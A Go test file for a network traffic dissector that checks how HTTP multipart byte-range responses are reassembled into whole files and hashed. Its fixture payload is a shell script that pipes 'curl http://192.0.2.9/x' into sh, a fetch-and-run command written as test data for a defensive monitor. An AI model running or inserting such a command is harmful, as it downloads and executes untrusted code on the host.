package http

import (
	"fmt"
	"slices"
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"

	"github.com/yagura-project/yagura/dissect"
	"github.com/yagura-project/yagura/dissect/flowtest"
	"github.com/yagura-project/yagura/event"
)

// toolSum is the SHA-256 that the server's file has; its parts come by three answers, two of them with several parts.
const toolSum = "87a0403508d167c16ea6c90aadbe2b40e5d64d522ca886d57f8e0d4fc7ad5362"

func TestRangesCapture(t *testing.T) {
	const file = flowtest.Captures + "http-ranges.pcap.gz"
	flowtest.Golden(t, file, Protocol)
	flowtest.Conform(t, file, Protocol)
	if got := wholes(flowtest.Show(t, file, Protocol).Events); !slices.Equal(got, []string{"exe " + toolSum}) {
		t.Errorf("%q", got)
	}
}

// wholes are the types and digests of files whose last part has come.
func wholes(events []event.Event) (out []string) {
	for _, e := range events {
		if a, ok := e.(*event.HTTPActivity); ok && a.WholeFile != nil {
			out = append(out, a.WholeFile.Type+" "+a.WholeFile.SHA256)
		}
	}
	return out
}

const joined = "#!/bin/sh\ncurl http://192.0.2.9/x | sh\n"

// several asks for parts of content by one request; status is that of the answer.
func several(status int, content string, spans ...[2]int) []flowtest.Say {
	var b strings.Builder
	for _, s := range spans {
		fmt.Fprintf(&b, "\r\n--b\r\nContent-Type: text/plain\r\nContent-Range: bytes %d-%d/%d\r\n\r\n%s", s[0], s[1]-1, len(content), content[s[0]:s[1]])
	}
	b.WriteString("\r\n--b--\r\n")
	return []flowtest.Say{flowtest.Up("GET /a.sh HTTP/1.1\r\nHost: dl.example\r\n\r\n"), flowtest.Down(fmt.Sprintf(
		"HTTP/1.1 %d Partial Content\r\nContent-Type: multipart/byteranges; boundary=b\r\nContent-Length: %d\r\n\r\n%s", status, b.Len(), b.String()))}
}

// severalRanges are conversations that bring a script in parts, and how many times all of it came.
var severalRanges = map[string]struct {
	says  []flowtest.Say
	whole int
}{
	"at once":         {several(partial, joined, [2]int{20, len(joined)}, [2]int{0, 20}), 1},
	"by two":          {slices.Concat(several(partial, joined, [2]int{20, 25}, [2]int{0, 10}), several(partial, joined, [2]int{25, len(joined)}, [2]int{8, 21})), 1},
	"with single":     {slices.Concat(several(partial, joined, [2]int{20, 25}, [2]int{0, 10}), part("/a.sh", "", joined, 10, 20), part("/a.sh", "", joined, 25, len(joined))), 1},
	"one lacks":       {several(partial, joined, [2]int{20, len(joined)}, [2]int{0, 19}), 0},
	"no part is told": {several(200, joined, [2]int{20, len(joined)}, [2]int{0, 20}), 0},
}

func TestSeveralRanges(t *testing.T) {
	for name, c := range severalRanges {
		if got := wholes(flowtest.Detailed(80, false, c.says, Protocol)); len(got) != c.whole {
			t.Errorf("%s: %q", name, got)
		}
	}
	odd := []flowtest.Say{flowtest.Up("GET / HTTP/1.1\r\n\r\n"), flowtest.Down(strings.Replace(several(partial, joined, [2]int{1, 3})[1].B, "bytes 1-2", "bytes 1_2", 1))}
	if d := cmp.Diff([]string{"http.missing_host_header", "http.response_multipart_byteranges", "http.range_invalid"}, flowtest.Odd(t, 80, false, odd, Protocol)); d != "" {
		t.Error(d)
	}
}

// TestEachPartIsTold: an answer tells of each of its parts, one of them from the file's first byte on, and of the whole file.
func TestEachPartIsTold(t *testing.T) {
	var got []event.Part
	for _, e := range flowtest.Detailed(80, false, several(partial, joined, [2]int{20, 25}, [2]int{0, 10}, [2]int{30, 36}), Protocol) {
		if a, ok := e.(*event.HTTPActivity); ok {
			for _, f := range append([]event.File{*a.ResponseFile}, a.MoreParts...) {
				got = append(got, *f.Part)
			}
		}
	}
	if d := cmp.Diff([]event.Part{{Start: 20, Whole: true}, {Whole: true}, {Start: 30, Whole: true}}, got); d != "" {
		t.Error(d)
	}
}

// TestSeveralRangesLost: behind a loss within a part the next ones are read.
func TestSeveralRangesLost(t *testing.T) {
	var events []event.Event
	p := newParser(&dissect.Flow{Emit: func(e event.Event) { events = append(events, e) }})
	says := several(partial, joined, [2]int{30, 36}, [2]int{0, 30})
	cut := strings.Index(says[1].B, joined[30:36]) + 3
	give := func(d dissect.Dir, b string) {
		if _, err := p.Data(d, []byte(b)); err != nil {
			t.Fatal(err)
		}
	}
	give(says[0].Dir, says[0].B)
	give(says[1].Dir, says[1].B[:cut])
	if err := p.Gap(dissect.Resp, 2); err != nil {
		t.Fatal(err)
	}
	give(says[1].Dir, says[1].B[cut+2:])
	if got := wholes(events); len(got) != 0 {
		t.Errorf("%q, though bytes lack", got)
	}
	for _, s := range part("/a.sh", "", joined, 33, len(joined)) {
		give(s.Dir, s.B)
	}
	if got := wholes(events); len(got) != 1 {
		t.Errorf("%d are whole", len(got))
	}
}

// TestManyRanges: no more than a bounded number of parts of one answer is looked at.
func TestManyRanges(t *testing.T) {
	content := strings.Repeat("MZ", 4<<10)
	var spans [][2]int
	for at := range 3 << 10 {
		spans = append(spans, [2]int{2 * at, 2*at + 1})
	}
	files := 0
	for _, e := range flowtest.Detailed(80, false, several(partial, content, spans...), Protocol) {
		if _, ok := e.(*event.FileActivity); ok {
			files++
		}
	}
	if files != maxRanges {
		t.Errorf("%d files", files)
	}
}

// TestBoundaryBehindNoText finds the boundary behind bytes that are no text, whose small letters are longer than they are.
func TestBoundaryBehindNoText(t *testing.T) {
	const kind = "multipart/form-data"
	for v, want := range map[string]string{"; Y\xa2(Boundary=b; c": "b", "; Y\xa2\xa2\xa2(boundary=": "", "; boundary": ""} {
		if got := boundary(kind+v, kind); got != want {
			t.Errorf("%q: %q", v, got)
		}
	}
}
